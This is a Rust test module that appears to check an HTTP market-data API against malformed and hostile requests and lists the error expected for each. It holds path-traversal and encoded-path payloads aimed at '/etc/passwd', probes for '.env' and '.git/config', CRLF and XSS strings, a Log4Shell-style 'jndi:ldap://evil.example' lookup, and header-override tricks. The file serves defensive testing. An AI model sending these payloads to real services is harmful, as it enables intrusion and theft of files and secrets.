//! Paths that a proxy and the service might read differently, and methods that no route has.

use super::attack::{Attack, Bare, Expected, Problem, Taken, get, key, request, token};

pub fn attacks() -> Vec<Attack> {
    paths().into_iter().chain(forms()).chain(methods()).collect()
}

fn paths() -> Vec<Attack> {
    let not_found = [
        "//api/v1/candles",
        "/api//v1/candles",
        "/api/v1/candles/",
        "/api/v1/candles//",
        "/./api/v1/candles",
        "/api/./v1/candles",
        "/api/v1/x/../candles",
        "/health/../api/v1/candles",
        "/health/live/../../api/v1/series",
        "/../api/v1/candles",
        "/api/v1/../../../../etc/passwd",
        "/%2e%2e/api/v1/candles",
        "/health/%2e%2e/api/v1/candles",
        "/health/..%2fapi/v1/candles",
        "/health/%2e%2e%2fapi%2fv1%2fcandles",
        "/health/%252e%252e/api/v1/candles",
        "/api%2fv1%2fcandles",
        "/api%5cv1%5ccandles",
        "/api\\v1\\candles",
        "/api/v1/candles%00",
        "/api/v1/candles%00.html",
        "/api/v1/candles%0d%0aX-API-KEY:%20x",
        "/api/v1/candles%20",
        "/api/v1/candles;x",
        "/api/v1/candles;jsessionid=1",
        "/api;x/v1/candles",
        "/health/..;/api/v1/candles",
        "/API/v1/candles",
        "/api/V1/candles",
        "/api/v1/Candles",
        "/api/v1/candles.json",
        "/api/v1/candles~",
        "/api/v1/%",
        "/api/v1/%zz",
        "/api/v1/%ff%fe",
        "/api/v1/%c0%ae%c0%ae/candles",
        "/metrics",
        "/api/v1/metrics",
        "/debug/pprof",
        "/.env",
        "/.git/config",
        "/server-status",
        "/actuator/env",
        "/candlewick.db",
        "/problem",
        "/docs",
        "/api/docs",
        "/api/v1/openapi.json",
    ];
    // With the token too, because a path without a route must not become one on the way.
    let attack = |path: &&str, lines: &str, who: &str| {
        Attack::new(format!("{path} {who}"), get(path, lines), Problem(404, "not_found"))
    };
    let mut attacks: Vec<Attack> = not_found.iter().map(|path| attack(path, "", "without a key")).collect();
    // A proxy that normalises a path reaches the route, where the token allows reads.
    attacks.extend(
        not_found
            .iter()
            .map(|path| attack(path, &token(), "with the token").mended_by_proxies(Problem(422, "invalid_values"))),
    );
    attacks
}

fn forms() -> Vec<Attack> {
    let form = |name: &str, target: &str, expected: Expected| Attack::new(name, get(target, ""), expected);
    vec![
        form("an absolute address", "http://localhost/api/v1/series", Problem(401, "unauthorized")),
        form("an absolute address elsewhere", "http://evil.example/api/v1/series", Problem(403, "foreign_host")),
        form("an absolute address with a login", "http://a:b@localhost/api/v1/series", Problem(400, "invalid_host"))
            .mended_by_proxies(Problem(401, "unauthorized")),
        form("an absolute address without a path", "http://localhost", Taken(200)),
        form("a file's address", "file:///etc/passwd", Bare(400)),
        form("an asterisk", "*", Problem(404, "not_found")),
        form("a name alone", "localhost", Problem(404, "not_found")),
        form("no slash in front", "api/v1/candles", Bare(400)),
        form("a query alone", "?symbol=EURUSD", Bare(400)),
        form("a fragment", "/api/v1/series#x", Problem(401, "unauthorized")),
        form("bytes beyond ASCII", "/api/v1/\u{e9}", Problem(404, "not_found")),
        form("a NUL", "/api/v1/series\0", Bare(400)),
        form("a delete character", "/api/v1/series\x7f", Bare(400)),
        form("an escape", "/api/v1/\x1b[31m", Bare(400)),
        form("a quote", "/api/v1/\"series\"", Problem(404, "not_found")),
        form("angle brackets", "/<script>alert(1)</script>", Bare(400)),
        form("braces", "/{{7*7}}/${jndi:ldap://evil.example/a}", Problem(404, "not_found")),
        form("a path of 8,000 bytes", &format!("/{}", "a".repeat(8000)), Problem(404, "not_found")),
        form("a path of 1,000 parts", &"/a".repeat(1000), Problem(404, "not_found")),
    ]
}

fn methods() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for method in [
        "TRACE",
        "PUT",
        "PATCH",
        "DELETE",
        "FOO",
        "PROPFIND",
        "get",
        "G3T",
        "OPTIONS",
        "GETGETGETGETGETGETGETGETGETGETGETGET",
    ] {
        for path in ["/api/v1/candles", "/api/v1/series", "/health"] {
            let expected = match (method, path) {
                // Only maintenance keys delete.
                ("DELETE", "/api/v1/candles") => Problem(403, "wrong_scope"),
                _ => Problem(405, "method_not_allowed"),
            };
            attacks.push(Attack::new(
                format!("{method} {path}"),
                request(method, path, &(if path == "/api/v1/candles" { key() } else { token() })),
                expected,
            ));
        }
    }
    attacks.extend([
        Attack::new("OPTIONS of everything", request("OPTIONS", "*", ""), Problem(404, "not_found"))
            .proxies_may_answer(200),
        Attack::new("a tunnel", request("CONNECT", "localhost:443", ""), Problem(404, "not_found")),
        Attack::new(
            "POST of what is read",
            request("POST", "/api/v1/series", &token()),
            Problem(405, "method_not_allowed"),
        ),
        Attack::new(
            "POST of the health",
            request("POST", "/health", "Content-Length: 0\r\n"),
            Problem(405, "method_not_allowed"),
        ),
        Attack::new(
            "another method in a header",
            request("GET", "/api/v1/candles", &format!("X-HTTP-Method-Override: POST\r\n{}", key())),
            Problem(403, "wrong_scope"),
        ),
        Attack::new(
            "another protocol",
            request(
                "GET",
                "/health/live?",
                "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
            ),
            Taken(200),
        ),
        Attack::new(
            "another path in a header",
            request(
                "GET",
                "/nowhere",
                &format!("X-Original-URL: /api/v1/series\r\nX-Rewrite-URL: /api/v1/series\r\n{}", token()),
            ),
            Problem(404, "not_found"),
        ),
        Attack::new(
            "an internal redirect in a header",
            request("GET", "/nowhere", "X-Accel-Redirect: /problem\r\nX-Sendfile: /etc/passwd\r\n"),
            Problem(404, "not_found"),
        ),
    ]);
    attacks
}
